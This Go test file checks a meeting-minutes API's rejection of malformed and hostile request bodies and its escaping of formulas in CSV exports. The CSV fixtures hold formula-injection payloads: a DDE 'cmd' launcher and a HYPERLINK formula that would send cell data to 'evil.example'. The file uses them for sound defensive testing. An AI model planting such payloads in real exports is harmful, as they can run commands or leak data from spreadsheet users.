package api_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/meetingminutes/minutes/shared/review/reviewtest"
	"github.com/meetingminutes/minutes/shared/store"
)

// unsized hides a body's length, so the request goes without Content-Length (chunked).
type unsized struct{ io.Reader }

func TestMalformedBodiesAreClientErrors(t *testing.T) {
	t.Parallel()
	b := setup(t)
	tn := b.a
	admin := b.as(t, tn, tn.Admin)
	routes := []struct{ method, path string }{
		{"PUT", "/api/v1/minutes/" + tn.Minutes.ID.String()},
		{"POST", "/api/v1/minutes/" + tn.Minutes.ID.String() + "/reject"},
		{"PATCH", "/api/v1/action-items/" + tn.Items[0].ID.String()},
		{"PUT", "/api/v1/settings"},
		{"PATCH", "/api/v1/users/" + tn.Other.ID.String()},
		{"POST", "/api/v1/templates"},
	}
	huge := `{"reason":"` + strings.Repeat("a", 2<<20) + `"}`
	bodies := []struct {
		name   string
		body   string
		ctype  string
		status int
		msg    string
	}{
		{"truncated JSON", `{"status":`, "", 400, "malformed JSON"},
		{"syntax error", `{"status" "done"}`, "", 400, "malformed JSON at byte"},
		{"unknown field", `{"tenant_id":"x"}`, "", 400, `unknown field "tenant_id"`},
		{"array", `[]`, "", 400, "must be a JSON object"},
		{"string", `"done"`, "", 400, "must be a JSON object"},
		{"number", `42`, "", 400, "must be a JSON object"},
		{"empty", ``, "", 400, "empty"},
		{"two objects", `{} {}`, "", 400, "nothing after it"},
		{"trailing garbage", `{}x`, "", 400, "nothing after it"},
		{"not JSON content type", `{}`, "text/plain", 415, "application/json"},
		{"form content type", `status=done`, "application/x-www-form-urlencoded", 415, "application/json"},
		{"no content type", `{}`, "-", 415, "application/json"},
		{"2 MiB with a length", huge, "", 413, "too large"},
	}
	for _, rt := range routes {
		for _, bd := range bodies {
			t.Run(rt.method+" "+rt.path+"/"+bd.name, func(t *testing.T) {
				req := httptest.NewRequest(rt.method, rt.path, strings.NewReader(bd.body))
				switch bd.ctype {
				case "":
					req.Header.Set("Content-Type", "application/json; charset=utf-8")
				case "-":
				default:
					req.Header.Set("Content-Type", bd.ctype)
				}
				req.AddCookie(admin.cookie)
				rec := httptest.NewRecorder()
				b.srv.ServeHTTP(rec, req)
				require.Equal(t, bd.status, rec.Code, rec.Body.String())
				require.Contains(t, errorOf(t, rec), bd.msg)
			})
		}
		t.Run(rt.method+" "+rt.path+"/2 MiB without a length", func(t *testing.T) {
			req := httptest.NewRequest(rt.method, rt.path, unsized{strings.NewReader(huge)})
			require.EqualValues(t, -1, req.ContentLength)
			req.Header.Set("Content-Type", "application/json")
			req.AddCookie(admin.cookie)
			rec := httptest.NewRecorder()
			b.srv.ServeHTTP(rec, req)
			require.Equal(t, http.StatusRequestEntityTooLarge, rec.Code, rec.Body.String())
			errorOf(t, rec)
		})
	}
	require.Empty(t, b.auditActions(t, tn), "nothing was changed")
}

func TestWrongTypesAndHostileValuesAreClientErrors(t *testing.T) {
	t.Parallel()
	b := setup(t)
	tn := b.a
	admin := b.as(t, tn, tn.Admin)
	minutes := "/api/v1/minutes/" + tn.Minutes.ID.String()
	item := "/api/v1/action-items/" + tn.Items[0].ID.String()
	cases := []struct {
		method, path, body, msg string
	}{
		{"PUT", minutes, `{"content":5}`, "content must be a JSON object"},
		{"PUT", minutes, `{"content":null}`, "content is required"},
		{"PUT", minutes, `{}`, "content is required"},
		{"PUT", minutes, `{"content":{"title":"t","summary":"s"},"status":"approved"}`, `unknown field "status"`},
		{"PUT", minutes, `{"content":{"title":"t","summary":"s"},"version":9}`, `unknown field "version"`},
		{"PUT", minutes, `{"content":{"title":"t","summary":"s","action_items":[{"task":7}]}}`, "content.action_items[0].task must be a string"},
		{"PUT", minutes, `{"content":{"title":"t\u0000","summary":"s"}}`, "invalid input"},
		{"POST", minutes + "/reject", `{"reason":5}`, `field "reason" must be a string`},
		{"POST", minutes + "/reject", `{"reason":"a\u0000b"}`, "invalid input"},
		{"POST", minutes + "/reject", `{"reason":"x","decided_by":"someone"}`, `unknown field "decided_by"`},
		{"PATCH", item, `{"status":1}`, `field "status" must be a string`},
		{"PATCH", item, `{"status":"done","owner_user_id":"x"}`, `unknown field "owner_user_id"`},
		{"PATCH", item, `{"status":null}`, "status must be one of"},
		{"PATCH", "/api/v1/users/" + tn.Other.ID.String(), `{"role":true}`, `field "role" must be a string`},
		{"POST", "/api/v1/templates", `{"name":5}`, `field "name" must be a string`},
		{"POST", "/api/v1/templates", `{"name":"x","sections":"summary"}`, `field "sections" must be an array`},
		{"POST", "/api/v1/templates", `{"name":"a\u0000b"}`, "invalid input"},
		{"PUT", "/api/v1/settings", `{"retention_days":1e100}`, `field "retention_days" must be an integer`},
		{"PUT", "/api/v1/settings", `{"reminder_after_seconds":9223372036854775807}`, "reminder_after_seconds"},
		{"PUT", "/api/v1/settings", `{"distribution":[]}`, `field "distribution" must be an object`},
	}
	for _, tt := range cases {
		t.Run(tt.method+" "+tt.body, func(t *testing.T) {
			rec := b.do(t, admin, tt.method, tt.path, tt.body)
			require.Equal(t, http.StatusBadRequest, rec.Code, rec.Body.String())
			require.Contains(t, errorOf(t, rec), tt.msg)
		})
	}
}

func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	tn := b.a
	due := time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)
	off := 83*time.Second + 250*time.Millisecond
	mt, _, _ := tn.AddMeeting(t, reviewtest.MeetingOptions{Subject: "=cmd|' /C calc'!A0", Items: []store.ActionItemInput{
		{Task: `=HYPERLINK("http://evil.example/?"&A1,"click")`, OwnerName: "+SUM(1,2)", SourceQuote: "@evil", DueDate: &due, SourceOffset: &off},
		{Task: "-2+3", OwnerEmail: "-x@evil.example", SourceQuote: "\tindented"},
		{Task: "Normal, with \"quotes\"\nand a new line", OwnerName: "Amy", SourceQuote: "\rreturn"},
	}})

	rec := b.do(t, b.as(t, tn, tn.Member), "GET", "/api/v1/action-items.csv?meeting="+mt.ID.String(), nil)
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
	require.Equal(t, "text/csv; charset=utf-8", rec.Header().Get("Content-Type"))
	require.Equal(t, `attachment; filename="action-items.csv"`, rec.Header().Get("Content-Disposition"))
	require.Equal(t, "nosniff", rec.Header().Get("X-Content-Type-Options"))
	raw := rec.Body.String()
	require.True(t, strings.HasPrefix(raw, "task,owner,due,status,meeting,quote,at\r\n"), raw)
	require.True(t, strings.HasSuffix(raw, "\r\n"), "RFC 4180 records end in CRLF")

	records, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 4)
	require.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, records[1][0], "the dated item comes first")
	rest := records[2:]
	if rest[0][0] != "'-2+3" { // same due date (none) and creation time: order by id
		rest[0], rest[1] = rest[1], rest[0]
	}
	for _, r := range records[1:] {
		for _, cell := range r {
			if cell != "" {
				require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q would run as a formula", cell)
			}
		}
	}
	require.Equal(t, []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+SUM(1,2)", "2026-04-01", "open",
		"'=cmd|' /C calc'!A0", "'@evil", "00:01:23.250"}, records[1])
	require.Equal(t, []string{"'-2+3", "'-x@evil.example", "", "open", "'=cmd|' /C calc'!A0", "'\tindented", ""}, rest[0])
	require.Equal(t, "Normal, with \"quotes\"\nand a new line", rest[1][0], "quotes and line breaks survive")
	// A leading carriage return is neutralised too; encoding/csv then drops the lone CR (its
	// CRLF mode writes line breaks inside fields as CRLF and nothing else as CR).
	require.Equal(t, "'return", rest[1][5])
	require.Equal(t, []string{"action_items.exported"}, b.auditActions(t, tn))
}
